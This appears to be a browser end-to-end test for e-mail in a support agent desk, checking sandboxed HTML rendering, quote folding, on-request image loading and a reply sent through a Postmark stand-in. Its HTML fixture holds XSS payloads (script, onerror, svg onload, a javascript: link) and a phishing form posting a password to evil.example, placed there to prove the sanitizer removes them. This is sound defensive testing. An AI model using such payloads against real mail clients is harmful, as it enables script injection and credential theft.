// E-mail in the agent desk, end to end in headless Chromium against the real binary
// and the real e-mail connector (plugins/dist/email), installed through the API with
// provider `postmark` and pointed at a Postmark stand-in on 127.0.0.1 that checks what
// Postmark checks (the server token, JSON in and out, the shape of a send) and records
// every request. Nothing the desk asks for is intercepted.
//
// Ann texts first (the real sms-twilio connector); her address is added to her contact,
// then her mails arrive through the connector's real webhook (`POST /hooks/email/postmark`
// with the webhook's Basic credentials and Postmark's inbound JSON): her first mail, an
// automatic reply with an attachment too large to keep, and a reply to her first mail
// (In-Reply-To/References) in HTML with a Gmail-style quoted history, a script, a remote
// banner and an inline `cid:` picture among its Attachments.
//
// - the HTML mail shows in a sandboxed frame; the script, the onerror handler and the
//   javascript: link in it did nothing (`window.__pwned` stays unset, in the desk and
//   in the frame), the form and the iframe are gone, the style escape is gone;
// - the quoted history is folded and unfolds; the inline picture shows from the
//   mail's file; the remote banner is not fetched until "Load images (1)", then is;
// - the automatic reply is muted with its label, and the connector's warning shows;
// - the composer: To is Ann's address, the subject is "Re: Order 1042 damaged" (not
//   "Re: Re:"), "Cc all (2)" copies who Ann copied, a Bcc, a file chip, "Include
//   quoted message" on, my signature shown and edited in its dialog; the reply really
//   goes out: Postmark receives it with the token, the subject, the Cc and Bcc, the
//   file and In-Reply-To of Ann's mail, and the desk shows it sent.
// Screenshots go to tests/browser/artifacts/email-*.png.

import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { createServer } from 'node:http';
import { after, before, test } from 'node:test';

import { launch, screenshot, unnamedControls, watch } from '../lib/browser.mjs';
import { png } from '../lib/graph.mjs';
import {
  inboundMail as postmarkMail, installPostmarkEmail, postmarkInbound as postmarkPost, startPostmark,
} from '../lib/postmark.mjs';
import { api, createAgent, login, signedTwilioSms, startServer, waitFor } from '../lib/server.mjs';

const AGENT = { email: 'wes@email.test', password: 'wes-password-1', name: 'Wes Agent' };
const ANN = { phone: '+15550142424', email: 'ann@example.com', name: 'Ann Example' };
const SHOP = 'help@shop.example';
const SIGNATURE = 'Wes Agent\nShop Support';
const LOGO = png(64, 64, (x, y) => ((x - 32) ** 2 + (y - 32) ** 2 < 700 ? [122, 79, 214] : [255, 255, 255]));
const BANNER = png(120, 40, (x) => [240 - x, 120, 40 + x]);
const POSTMARK_TOKEN = 'browser-postmark-server-token-7c1e';
const HOOK_USER = 'postmark-hook';
const HOOK_PASSWORD = 'browser-postmark-hook-pass-93';
// One run's Message-IDs (a rerun on a kept data folder is never a duplicate).
const RUN = randomUUID().slice(0, 8);
const FIRST_ID = `order-1042-${RUN}@mail.example.com`;
const MAIN_ID = `order-1042-photos-${RUN}@mail.example.com`;

let server;
let browser;
let admin;
let token;
let remote; // the "internet": counts what is fetched from it
let remoteBase;
const remoteHits = [];
let postmark; // the Postmark API stand-in

before(async () => {
  remote = createServer((req, res) => {
    remoteHits.push(req.url);
    res.writeHead(200, { 'content-type': 'image/png', 'cache-control': 'no-store' });
    res.end(BANNER);
  });
  await new Promise((resolve) => remote.listen(0, '127.0.0.1', resolve));
  remoteBase = `http://127.0.0.1:${remote.address().port}`;
  postmark = await startPostmark(POSTMARK_TOKEN);
  server = await startServer();
  browser = await launch();
  admin = await login(server.base, server.adminEmail, server.adminPassword);
  await createAgent(server.base, admin, AGENT);
  token = await login(server.base, AGENT.email, AGENT.password);
  // The real e-mail connector, sending through the stand-in.
  const installed = await installPostmarkEmail(server, admin, postmark, {
    shop: SHOP,
    token: POSTMARK_TOKEN,
    hook: { user: HOOK_USER, password: HOOK_PASSWORD },
  });
  const text = JSON.stringify(installed);
  assert.ok(!text.includes(POSTMARK_TOKEN) && !text.includes(HOOK_PASSWORD), `secrets never come back: ${text}`);
});

after(async () => {
  await browser?.close();
  await server?.stop();
  await postmark?.close();
  await new Promise((resolve) => remote?.close(resolve));
});

/** Posts a Postmark inbound webhook with the mailbox's Basic credentials (or others). */
function postmarkInbound(body, creds = {}) {
  return postmarkPost(server.base, body, { user: HOOK_USER, password: HOOK_PASSWORD, ...creds });
}

/** Postmark's inbound JSON for a mail from Ann to the shop. */
function inboundMail(mail) {
  return postmarkMail({ from: ANN, shop: SHOP, ...mail });
}

function mainHtml() {
  return `<!DOCTYPE html><html><head><style>body { display: none }</style>
<script>window.__pwned = 'script'</script><meta http-equiv="refresh" content="0;url=https://evil.example/"></head>
<body onload="window.top.__pwned = 'onload'"><div dir="ltr">
<p style="color:#17803d; position:fixed; top:0; left:0; right:0; z-index:99999">Hello, the parcel for <b>order 1042</b> arrived <u>damaged</u>. Photos below.</p>
<p><img src="cid:photo@x" alt="Parcel photo" width="64" height="64"> <img src="${remoteBase}/banner.png?to=ann" alt="Shop banner" width="120" height="40"></p>
<p><img src="x" onerror="window.top.__pwned = 'onerror'" alt="broken"> <a href="javascript:window.top.__pwned = 'link'">Click me</a> · <a href="https://example.com/track/1042">Tracking page</a></p>
<form action="https://evil.example/login"><input name="password" placeholder="Your password"><button>Log in</button></form>
<iframe src="https://evil.example/"></iframe><svg onload="window.top.__pwned = 'svg'"></svg>
</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Mon, 1 Dec 2025 at 10:00, Shop Support &lt;help@shop.example&gt; wrote:<br></div>
<blockquote class="gmail_quote" style="margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex">Could you send us a photo of the parcel?<br>
<div class="gmail_quote"><div class="gmail_attr">On Sun, 30 Nov 2025, Ann Example wrote:</div><blockquote class="gmail_quote">My parcel arrived damaged, what now?</blockquote></div></blockquote></div>
</body></html>`;
}

const MAIN_TEXT = 'Hello, the parcel for order 1042 arrived damaged. Photos below.\n\n'
  + 'On Mon, 1 Dec 2025 at 10:00, Shop Support <help@shop.example> wrote:\n'
  + '> Could you send us a photo of the parcel?\n> > My parcel arrived damaged, what now?\n';

async function signIn(p) {
  await p.goto(`${server.base}/`);
  await p.getByTestId('login-email').fill(AGENT.email);
  await p.getByTestId('login-password').fill(AGENT.password);
  await p.getByTestId('login-submit').click();
  await p.getByTestId('connection-state').filter({ hasText: /^connected$/ }).waitFor({ timeout: 15_000 });
}

async function emailFrame(p, card) {
  const handle = await card.getByTestId('email-frame').elementHandle();
  const frame = await handle.contentFrame();
  await frame.waitForFunction(() => document.readyState === 'complete' && document.getElementById('sb-visible'));
  return frame;
}

test('an e-mail in the desk: sandboxed, quote folded, images on request, and the e-mail composer', async () => {
  // Tall enough to show a whole mail above the e-mail composer in the screenshots.
  const context = await browser.newContext({ viewport: { width: 1360, height: 1400 } });
  const p = await context.newPage();
  const watcher = watch(p);
  try {
    await scenario(p, watcher);
  } catch (err) {
    await screenshot(p, 'email-failure').catch(() => {});
    err.message += `\npage problems: ${JSON.stringify(watcher.problems(), null, 1)}`;
    err.message += `\nPostmark calls: ${postmark.requests.map((r) => `${r.method} ${r.path} → ${r.status} ${JSON.stringify(r.answer)}`).join('; ')}`;
    const warnings = server.output().split('\n').filter((l) => /WARN|ERROR/.test(l)).slice(-10);
    err.message += `\nserver warnings:\n${warnings.join('\n')}`;
    throw err;
  } finally {
    await context.close();
  }
});

async function scenario(p, watcher) {
  await api(server.base, token, 'PUT', '/api/v1/agents/me/signature', { signature: SIGNATURE });
  await signIn(p);
  await p.getByTestId('presence-select').selectOption('available');

  // Ann texts first; her e-mails join the same conversation.
  await signedTwilioSms(server.base, { from: ANN.phone, body: 'I sent you an e-mail about my parcel' });
  const contactId = await waitFor(async () => {
    const { contacts } = await api(server.base, admin, 'GET', `/api/v1/contacts?identity=${encodeURIComponent(`phone:${ANN.phone}`)}`);
    return contacts?.[0]?.id;
  }, { what: "Ann's contact" });
  await api(server.base, admin, 'PATCH', `/api/v1/contacts/${contactId}`, { display_name: ANN.name });
  await api(server.base, admin, 'POST', `/api/v1/contacts/${contactId}/identities`, { kind: 'email', value: ANN.email });

  const offer = p.getByTestId('offer').first();
  await offer.waitFor({ timeout: 20_000 });
  await offer.getByTestId('offer-accept').click();
  await p.getByTestId('customer-name').filter({ hasText: ANN.name }).waitFor({ timeout: 15_000 });

  // Her mails come in through the connector's webhook. Without the credentials: refused.
  const first = inboundMail({
    messageId: FIRST_ID,
    subject: 'Order 1042 damaged',
    text: 'My parcel arrived damaged, what now?',
  });
  for (const creds of [{ password: 'wrong-password' }, { user: 'someone' }]) {
    const refused = await postmarkInbound(first, creds);
    assert.ok([401, 403].includes(refused.status), `${JSON.stringify(creds)}: ${refused.status} ${refused.text}`);
  }
  let res = await postmarkInbound(first);
  assert.equal(res.status, 200, res.text);
  // Her out-of-office answer, with a scan too large to keep.
  res = await postmarkInbound(inboundMail({
    messageId: `auto-${RUN}@mail.example.com`,
    subject: 'Automatic reply: Order 1042',
    text: 'I am out of the office until Monday and will read your message then.\n-- \nAnn Example\nExample Ltd.',
    headers: [{ Name: 'Auto-Submitted', Value: 'auto-replied' }, { Name: 'In-Reply-To', Value: `<${FIRST_ID}>` }],
    attachments: [{ Name: 'scan.tiff', Content: Buffer.alloc(300 * 1024, 7).toString('base64'), ContentType: 'image/tiff', ContentLength: 300 * 1024, ContentID: '' }],
  }));
  assert.equal(res.status, 200, res.text);
  // Her answer to her first mail: HTML with the history, a picture and a banner.
  res = await postmarkInbound(inboundMail({
    messageId: MAIN_ID,
    subject: 'Re: Order 1042 damaged',
    text: MAIN_TEXT,
    html: mainHtml(),
    cc: [{ Email: 'ben@example.com', Name: 'Ben Example' }, { Email: 'claims@insurer.example' }],
    headers: [{ Name: 'In-Reply-To', Value: `<${FIRST_ID}>` }, { Name: 'References', Value: `<${FIRST_ID}>` }],
    attachments: [{ Name: 'parcel.png', Content: LOGO.toString('base64'), ContentType: 'image/png', ContentLength: LOGO.length, ContentID: 'photo@x' }],
  }));
  assert.equal(res.status, 200, res.text);

  // ------------------------------------------------------------ the HTML mail
  const timeline = p.getByTestId('timeline');
  const mails = timeline.locator('[data-testid="timeline-event"][data-channel="email"][data-kind="message"]');
  await mails.nth(2).waitFor({ timeout: 15_000 });
  assert.equal(await mails.count(), 3);
  const card = mails.nth(2);
  assert.equal(await card.getByTestId('email-subject').textContent(), 'Re: Order 1042 damaged');
  assert.equal(await card.getByTestId('email-addresses').textContent(),
    // The connector keeps the addresses of From and Cc, not their display names.
    'From: ann@example.comTo: help@shop.exampleCc: ben@example.com, claims@insurer.example');
  const frameEl = card.getByTestId('email-frame');
  assert.equal(await frameEl.getAttribute('sandbox'), 'allow-same-origin allow-popups allow-popups-to-escape-sandbox');
  const src = await frameEl.getAttribute('src');
  assert.match(src, /^\/email\/[\w-]+\?expires=\d+&sig=[0-9a-f]{64}$/);
  let frame = await emailFrame(p, card);

  // The new part shows; what could run or phish did not make it.
  const visible = await frame.evaluate(() => document.getElementById('sb-visible').textContent);
  assert.match(visible, /Hello, the parcel for order 1042 arrived damaged/);
  assert.match(visible, /Tracking page/);
  const inside = await frame.evaluate(() => ({
    scripts: document.querySelectorAll('script, iframe, form, input, svg, meta[http-equiv], object, embed').length,
    handlers: [...document.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.name)).filter((n) => n.startsWith('on')),
    jsLinks: [...document.links].filter((a) => !/^https?:/.test(a.href)).map((a) => a.href),
    links: [...document.links].map((a) => [a.href, a.target, a.rel]),
    fixed: [...document.querySelectorAll('#sb-visible *')].filter((el) => ['fixed', 'absolute'].includes(getComputedStyle(el).position)).length,
    green: getComputedStyle(document.querySelector('#sb-visible p')).color,
    pwned: window.__pwned ?? null,
  }));
  assert.deepEqual(inside, {
    scripts: 0, handlers: [], jsLinks: [], fixed: 0,
    links: [['https://example.com/track/1042', '_blank', 'noopener noreferrer nofollow']],
    green: 'rgb(23, 128, 61)', pwned: null,
  });
  assert.equal(await p.evaluate(() => window.__pwned ?? null), null, 'nothing in the mail ran in the desk');

  // The quote is folded.
  const quoted = () => frame.evaluate(() => {
    const q = document.getElementById('sb-quoted');
    return { hidden: q.hidden, shown: q.getBoundingClientRect().height > 0, text: q.textContent };
  });
  let state = await quoted();
  assert.equal(state.hidden, true);
  assert.equal(state.shown, false);
  assert.match(state.text, /Could you send us a photo[\s\S]*My parcel arrived damaged, what now\?/, 'every level of the history is kept');
  assert.doesNotMatch(visible, /Could you send us a photo/);

  // The inline picture shows from the mail's file; the remote banner waits.
  await frame.waitForFunction(() => {
    const img = document.querySelector('img[data-cid]');
    return img && img.src.startsWith('blob:') && img.complete && img.naturalWidth === 64;
  }, null, { timeout: 15_000 });
  assert.equal(await card.getByTestId('timeline-attachment').count(), 0, 'the inline picture is not listed again as a file');
  const banner = await frame.evaluate(() => {
    const img = document.querySelector('img[alt="Shop banner"]');
    return { src: img.getAttribute('src'), waiting: img.dataset.remoteSrc };
  });
  assert.deepEqual(banner, { src: null, waiting: `${remoteBase}/banner.png?to=ann` });
  const loadImages = card.getByTestId('email-load-images');
  assert.equal(await loadImages.textContent(), 'Load images (1)');
  assert.deepEqual(remoteHits, [], 'nothing was fetched from the internet');
  const folded = await frameEl.boundingBox();
  await card.scrollIntoViewIfNeeded();
  assert.deepEqual(await unnamedControls(p), [], 'controls without an accessible name (e-mail)');
  await screenshot(p, 'email-timeline');

  // Unfold the quote: it shows, and the frame grows to hold it.
  const toggle = card.getByTestId('email-quote-toggle');
  assert.equal(await toggle.getAttribute('aria-expanded'), 'false');
  await toggle.click();
  assert.equal(await toggle.textContent(), 'Hide quoted text');
  state = await quoted();
  assert.equal(state.hidden, false);
  assert.equal(state.shown, true);
  await waitFor(async () => (await frameEl.boundingBox()).height > folded.height + 40, { what: 'the frame to grow' });

  // Load images: the banner is fetched now, and the quote stays open.
  await loadImages.click();
  await waitFor(() => remoteHits.length > 0, { what: 'the banner to be fetched' });
  assert.deepEqual(remoteHits, ['/banner.png?to=ann']);
  assert.equal(await card.getByTestId('email-load-images').count(), 0);
  assert.match(await frameEl.getAttribute('src'), /&images=1$/);
  frame = await emailFrame(p, card);
  await frame.waitForFunction(() => {
    const img = document.querySelector('img[alt="Shop banner"]');
    return img.complete && img.naturalWidth === 120;
  }, null, { timeout: 15_000 });
  await frame.waitForFunction(() => document.querySelector('img[data-cid]')?.naturalWidth === 64);
  assert.equal((await quoted()).hidden, false, 'the quote stays open across the reload');
  assert.equal(await frame.evaluate(() => window.__pwned ?? null), null);
  await card.scrollIntoViewIfNeeded();
  await screenshot(p, 'email-expanded');

  // ------------------------------------------------------------ the automatic reply
  const auto = mails.nth(1);
  assert.match(await auto.getAttribute('class'), /tl-email-automatic/);
  assert.equal(await auto.getByTestId('email-automatic').textContent(), 'Automatic reply');
  assert.match(await auto.getByTestId('email-problem').textContent(), /Only partly read: attachments too large to copy here: scan\.tiff \(/);
  assert.equal(await auto.getByTestId('email-text').textContent(), 'I am out of the office until Monday and will read your message then.');
  const autoQuoted = auto.getByTestId('email-quoted');
  assert.equal(await autoQuoted.isVisible(), false, 'the signature is folded');
  await auto.getByTestId('email-quote-toggle').click();
  // Mail is CRLF on the wire; the connector keeps the lines as they came.
  assert.equal((await autoQuoted.textContent()).replace(/\r\n/g, '\n'), '-- \nAnn Example\nExample Ltd.');

  // A new message redraws the timeline: the frame comes back as the agent left it.
  await signedTwilioSms(server.base, { from: ANN.phone, body: 'Did you get the photos?' });
  await timeline.getByText('Did you get the photos?').waitFor({ timeout: 15_000 });
  frame = await emailFrame(p, card);
  await frame.waitForFunction(() => !document.getElementById('sb-quoted').hidden
    && document.querySelector('img[alt="Shop banner"]').naturalWidth === 120);

  // ------------------------------------------------------------ the composer
  // Both of Ann's channels can be answered on; the agent picks e-mail. (The host's
  // default is e-mail, but the desk keeps the channel it chose when the conversation
  // opened on her text.)
  const channel = p.getByTestId('reply-channel');
  await waitFor(async () => (await channel.locator('option').evaluateAll((os) => os.map((o) => o.value).sort())).join() === 'email,sms-twilio',
    { what: "Ann's reply channels" });
  const fields = p.getByTestId('email-fields');
  await channel.selectOption('email');
  await fields.waitFor();
  assert.equal(await p.getByTestId('email-to').textContent(), ANN.email);
  assert.equal(await p.getByTestId('email-subject-input').inputValue(), 'Re: Order 1042 damaged', 'no "Re: Re:"');
  assert.equal(await p.getByTestId('email-include-quote').isChecked(), true);
  await p.getByTestId('email-signature').filter({ hasText: SIGNATURE }).waitFor();
  const ccAll = p.getByTestId('email-cc-all');
  assert.equal(await ccAll.textContent(), 'Cc all (2)');
  await ccAll.click();
  assert.equal(await p.getByTestId('email-cc').inputValue(), 'ben@example.com, claims@insurer.example');
  await p.getByTestId('email-bcc').fill('records@shop.example');
  await p.getByTestId('reply-body').fill('Hello Ann,\n\nSorry about the parcel: a replacement is on its way, and you can keep the damaged one.');
  await p.getByTestId('reply-attach-input').setInputFiles({ name: 'return-label.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF-1.4\n% return label\n') });
  const chip = p.locator('[data-testid="reply-attachment"][data-state="ready"]');
  await chip.waitFor();
  assert.match(await chip.textContent(), /return-label\.pdf/);

  // Edit the signature in its dialog.
  await p.getByTestId('email-signature-edit').click();
  const input = p.getByTestId('signature-input');
  await input.waitFor();
  await waitFor(async () => (await input.inputValue()) === SIGNATURE, { what: 'the signature in the dialog' });
  await input.fill(`${SIGNATURE}\nWe answer within one working day`);
  await screenshot(p, 'email-signature-dialog');
  await p.getByTestId('signature-save').click();
  await p.getByTestId('email-signature').filter({ hasText: 'We answer within one working day' }).waitFor();
  const kept = await api(server.base, token, 'GET', '/api/v1/agents/me/signature');
  assert.equal(kept.signature, `${SIGNATURE}\nWe answer within one working day`);
  assert.deepEqual(await unnamedControls(p), [], 'controls without an accessible name (e-mail composer)');
  await p.getByTestId('email-fields').scrollIntoViewIfNeeded();
  await screenshot(p, 'email-composer');

  // A Bcc that is not an address is refused in the composer, before anything is sent.
  await p.getByTestId('email-bcc').fill('records at shop');
  await p.getByTestId('reply-send').click();
  await p.getByTestId('reply-error').filter({ hasText: 'Bcc: “records at shop” is not an e-mail address.' }).waitFor();
  assert.equal(postmark.requests.length, 0, 'nothing was sent');
  await p.getByTestId('email-bcc').fill('records@shop.example');
  await p.getByTestId('reply-send').click();

  // Postmark receives the reply, from the connector, as Postmark expects it.
  const sends = await waitFor(() => postmark.requests.length > 0 && postmark.requests, { timeoutMs: 20_000, what: 'the reply at Postmark' });
  assert.equal(sends.length, 1);
  const send = sends[0];
  assert.equal(send.status, 200, JSON.stringify(send.answer));
  assert.equal(send.headers['x-postmark-server-token'], POSTMARK_TOKEN);
  const mail = send.json;
  assert.match(mail.From, new RegExp(`<${SHOP.replace('.', '\\.')}>$`));
  assert.equal(mail.To, ANN.email);
  assert.equal(mail.Subject, 'Re: Order 1042 damaged');
  assert.equal(mail.Cc, 'ben@example.com,claims@insurer.example');
  assert.equal(mail.Bcc, 'records@shop.example');
  assert.match(mail.TextBody, /a replacement is on its way, and you can keep the damaged one/);
  assert.match(mail.TextBody, /We answer within one working day/, 'the signature goes with it');
  assert.match(mail.HtmlBody, /a replacement is on its way/);
  const header = (name) => mail.Headers.find((h) => h.Name.toLowerCase() === name.toLowerCase())?.Value;
  assert.equal(header('In-Reply-To'), `<${MAIN_ID}>`);
  assert.match(header('References') ?? '', new RegExp(`<${MAIN_ID.replace(/\./g, '\\.')}>`));
  assert.match(header('Message-ID') ?? '', /^<[^<>@]+@shop\.example>$/);
  assert.deepEqual(mail.Attachments.map((f) => [f.Name, f.ContentType, Buffer.from(f.Content, 'base64').toString()]),
    [['return-label.pdf', 'application/pdf', '%PDF-1.4\n% return label\n']]);

  // The desk shows the reply, handed over.
  await timeline.locator('.tl-out .delivery').filter({ hasText: /^sent$/ }).waitFor({ timeout: 15_000 });
  await timeline.locator('.tl-out').filter({ hasText: 'a replacement is on its way' }).first().waitFor();
  // Ready for the next one.
  await waitFor(async () => (await p.getByTestId('email-cc').inputValue()) === '', { what: 'the composer to reset' });
  assert.equal(await p.getByTestId('reply-body').inputValue(), '');
  assert.equal(await p.getByTestId('email-subject-input').inputValue(), 'Re: Order 1042 damaged');

  // Another channel hides the e-mail fields.
  await p.getByTestId('reply-channel').selectOption('sms-twilio');
  assert.equal(await fields.isVisible(), false);
  await p.getByTestId('reply-channel').selectOption('email');

  // On a phone the mail and the composer fit.
  await p.setViewportSize({ width: 390, height: 844 });
  // The desk redraws its layout for the phone width (and the timeline for the
  // delivery update); scroll once the card stays put.
  await waitFor(async () => {
    try {
      await card.scrollIntoViewIfNeeded({ timeout: 2_000 });
      return true;
    } catch {
      return false;
    }
  }, { what: 'the mail to scroll into view at phone size' });
  const width = await p.evaluate(() => document.documentElement.scrollWidth);
  assert.ok(width <= 390, `no horizontal scrolling at phone size (page is ${width}px wide)`);
  await screenshot(p, 'email-phone');

  // The frame's address is signed: a forged one is refused, and so is a text event.
  const forged = await fetch(`${server.base}${src.replace(/sig=[0-9a-f]/, (m) => (m.endsWith('0') ? 'sig=1' : 'sig=0'))}`);
  assert.equal(forged.status, 403);
  const page = await fetch(`${server.base}${src}`);
  assert.equal(page.status, 200);
  const csp = page.headers.get('content-security-policy');
  assert.match(csp, /script-src 'none'/);
  assert.doesNotMatch(csp, /https:/, 'remote images only with images=1');
  assert.match((await fetch(`${server.base}${src}&images=1`)).headers.get('content-security-policy'), /img-src data: blob: https: http:/);

  assert.deepEqual(watcher.problems(), [], 'nothing failed on the page');
}
